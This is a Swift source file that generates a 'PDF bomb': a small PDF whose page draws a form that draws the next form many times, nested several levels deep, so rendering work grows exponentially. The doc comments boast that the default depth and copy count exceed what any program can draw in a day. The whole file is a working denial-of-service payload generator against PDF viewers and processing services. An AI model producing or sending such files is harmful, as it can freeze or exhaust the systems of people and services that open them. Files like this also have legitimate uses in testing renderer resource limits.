/// A small PDF whose page draws a form that draws another one many times, and so on: a day's work for whoever follows.
public enum PDFBomb {
    /// The file; a depth of 9 and 20 copies are more than any program draws in a day.
    public static func file(depth: Int, copies: Int) -> [UInt8] {
        func stream(_ entries: String, _ content: String) -> String {
            "<< \(entries) /Length \(content.utf8.count) >>\nstream\n\(content)\nendstream"
        }
        var objects = [
            "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /F0 6 0 R >> >> >>",
            stream("", "/F0 Do"), "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
        for level in 0..<depth {
            let isLast = level == depth - 1
            let content = isLast ? "BT /F 12 Tf 10 10 Td (x) Tj ET" : String(repeating: "/F\(level + 1) Do\n", count: copies)
            let inner = isLast ? "" : " /XObject << /F\(level + 1) \(7 + level) 0 R >>"
            objects.append(
                stream("/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F 5 0 R >>\(inner) >>", content))
        }
        var file = "%PDF-1.4\n"
        var table = "xref\n0 \(objects.count + 1)\n0000000000 65535 f \n"
        for (index, object) in objects.enumerated() {
            let offset = String(file.utf8.count)
            table += String(repeating: "0", count: 10 - offset.count) + offset + " 00000 n \n"
            file += "\(index + 1) 0 obj\n\(object)\nendobj\n"
        }
        return Array((file + table + "trailer << /Size \(objects.count + 1) /Root 1 0 R >>\nstartxref\n\(file.utf8.count)\n%%EOF\n").utf8)
    }
}
